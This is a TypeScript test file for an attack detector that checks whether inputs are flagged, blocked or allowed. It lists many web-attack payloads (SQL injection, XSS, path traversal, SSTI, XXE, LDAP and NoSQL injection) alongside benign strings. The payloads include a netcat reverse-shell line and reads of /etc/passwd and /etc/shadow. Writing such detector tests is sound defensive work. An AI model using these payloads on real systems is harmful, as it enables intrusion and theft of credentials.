import { describe, expect, it } from 'vitest';
import { createAttackDetector, inspectText } from './detector.js';
import type { AttackClass } from './types.js';

// Hand-written payloads in the shapes each class takes (not rows of the evaluation set).
const ATTACKS: [AttackClass, string][] = [
  ['sqli', "admin' OR '1'='1' -- "],
  ['sqli', '1 UNION/**/ALL/**/SELECT username, password FROM users'],
  ['sqli', "x'; DROP TABLE accounts; --"],
  ['sqli', '1 AND 4242=4242'],
  ['sqli', "1' AND SLEEP(5)#"],
  ['sqli', '-1 or 2=(select count(*) from information_schema.tables)'],
  ['sqli', '%27%20or%20%271%27%3D%271'],
  ['xss', '<script>alert(document.cookie)</script>'],
  ['xss', '"><img src=x onerror=prompt(1)>'],
  ['xss', '<a href="jav&#x09;ascript:alert(1)">x</a>'],
  ['xss', '%3Csvg%2Fonload%3Dalert%281%29%3E'],
  ['xss', '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'],
  ['traversal', '../../../../etc/passwd'],
  ['traversal', '..%252f..%252f..%252fwindows%252fwin.ini'],
  ['traversal', '%c0%ae%c0%ae/%c0%ae%c0%ae/etc/shadow'],
  ['traversal', '....//....//config.php'],
  ['lfi', '/etc/passwd'],
  ['lfi', 'php://filter/convert.base64-encode/resource=index.php'],
  ['lfi', 'file:///c:/windows/win.ini'],
  ['lfi', 'C:\\Windows\\System32\\drivers\\etc\\hosts'],
  ['lfi', '/proc/self/environ'],
  ['cmdi', '; cat /etc/passwd'],
  ['cmdi', '| nc -e /bin/sh 10.0.0.1 4444'],
  ['cmdi', '$(whoami)'],
  ['cmdi', 'a%0aid'],
  ['cmdi', '127.0.0.1 && ping -c 3 127.0.0.1'],
  ['ssti', '{{7*7}}'],
  ['ssti', "{{ ''.__class__.__mro__[1].__subclasses__() }}"],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template-injection payload, meant literally.
  ['ssti', '${T(java.lang.Runtime).getRuntime().exec("id")}'],
  ['crlf', 'foo%0d%0aSet-Cookie:%20session=evil'],
  ['crlf', '%0d%0a%0d%0a<html>injected</html>'],
  ['xxe', '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'],
  ['ssi', '<!--#exec cmd="ls" -->'],
  ['nosqli', '{"username": {"$ne": null}, "password": {"$ne": null}}'],
  ['nosqli', "' && this.password.match(/.*/)//"],
  ['ldapi', '*)(uid=*))(|(uid=*'],
  ['xpathi', "' or count(/*)=1 or 'a'='b"],
  ['open_redirect', '//evil.example/'],
  ['open_redirect', 'https://trusted.example@evil.example/'],
  ['open_redirect', 'http://0x7f000001/'],
];

// Things people send a chat assistant or a web form that must not be flagged.
const BENIGN = [
  'Hello! Can you help me plan a trip to Lisbon next May?',
  'How do I reverse a list in Python?',
  "cursor.execute('SELECT name FROM users WHERE id = %s', (user_id,))",
  'for i in range(10): print(i * 2)',
  'const total = items.reduce((a, b) => a + b, 0);',
  'The price is 5 < 10 and 10 > 5, right?',
  "It's 3 o'clock and I'm late -- sorry!",
  'john.doe@example.com',
  'https://github.com/sindresorhus/awesome#readme',
  'C++ templates: std::vector<int> v;',
  'Use `ls -la` to list hidden files, then `cd ..` to go up.',
  'calle mayor 12, 3º izquierda',
  'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36',
  '{"model": "default", "temperature": 0.7}',
  'What is 20% of 150?',
  'A+ grade, 100% effort & C# skills',
];

describe('inspectText', () => {
  it.each(ATTACKS)('detects %s: %s', (cls, text) => {
    const result = inspectText(text);
    expect(result.verdict, JSON.stringify(result)).not.toBe('allow');
    expect(result.classes).toContain(cls);
    expect(result.rules.length).toBeGreaterThan(0);
  });

  it.each(BENIGN)('allows %s', (text) => {
    const result = inspectText(text);
    expect(result.verdict, JSON.stringify(result)).toBe('allow');
    expect(result.score).toBeLessThan(3);
  });

  it('blocks the classic payloads outright', () => {
    for (const text of [
      "' or 1=1 --",
      '<script>alert(1)</script>',
      '../../../etc/passwd',
      ';cat /etc/passwd',
    ]) {
      expect(inspectText(text).verdict, text).toBe('block');
    }
  });

  it('scores as the sum of matched rule weights, reported once per rule', () => {
    const result = inspectText('<script>alert(1)</script>');
    expect(result.rules).toEqual([...new Set(result.rules)].sort());
    expect(result.score).toBeGreaterThanOrEqual(5);
  });

  it('skips rules about whole values in path context', () => {
    expect(inspectText('//evil.example').classes).toContain('open_redirect');
    expect(inspectText('//evil.example', { context: 'path' }).verdict).toBe('allow');
  });

  it('reads + as a space in query context', () => {
    expect(inspectText('{{7+7}}').classes).toContain('ssti');
    expect(inspectText('1+union+select+1,2', { context: 'query' }).verdict).toBe('block');
  });

  it('only inspects the first maxChars characters', () => {
    const detector = createAttackDetector({ maxChars: 100 });
    const late = `${'a'.repeat(200)}<script>alert(1)</script>`;
    expect(detector.inspectText(late).verdict).toBe('allow');
    expect(inspectText(late).verdict).toBe('block');
  });
});

describe('createAttackDetector', () => {
  it('uses the configured thresholds', () => {
    const strict = createAttackDetector({ flagThreshold: 2, blockThreshold: 3 });
    expect(strict.inspectText('<b>bold</b>').verdict).toBe('block');
    const lax = createAttackDetector({ flagThreshold: 50, blockThreshold: 100 });
    expect(lax.inspectText("' or 1=1 --").verdict).toBe('allow');
  });

  it('rejects nonsensical configuration', () => {
    expect(() => createAttackDetector({ maxChars: 0 })).toThrow(/maxChars/);
    expect(() => createAttackDetector({ flagThreshold: 9, blockThreshold: 5 })).toThrow(/flagThreshold/);
  });
});
